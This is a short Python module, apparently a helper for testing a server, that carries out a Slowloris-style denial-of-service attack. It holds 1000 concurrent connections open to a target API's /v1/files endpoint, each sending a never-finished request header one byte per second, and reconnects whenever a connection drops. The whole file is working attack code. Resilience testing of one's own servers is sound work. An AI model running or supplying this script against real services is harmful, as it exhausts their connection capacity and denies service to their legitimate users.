"""The attack with a thousand requests that are never sent to the end."""

from __future__ import annotations

import asyncio
from contextlib import suppress
from urllib.parse import urlsplit

_CONNECTIONS = 1000


async def attack(base_url: str, key: str) -> None:
    """Keep a thousand connections open with half a request each, until cancelled."""
    address = urlsplit(base_url)
    async with asyncio.TaskGroup() as group:
        for _ in range(_CONNECTIONS):
            group.create_task(_hold(address.hostname or "127.0.0.1", address.port or 80, key))


async def _hold(host: str, port: int, key: str) -> None:
    while True:
        with suppress(OSError):
            _, writer = await asyncio.open_connection(host, port)
            try:
                writer.write(f"POST /v1/files HTTP/1.1\r\nauthorization: Bearer {key}\r\nx: ".encode())
                while not writer.is_closing():
                    writer.write(b"x")
                    await writer.drain()
                    await asyncio.sleep(1)
            finally:
                writer.close()
        await asyncio.sleep(0.1)
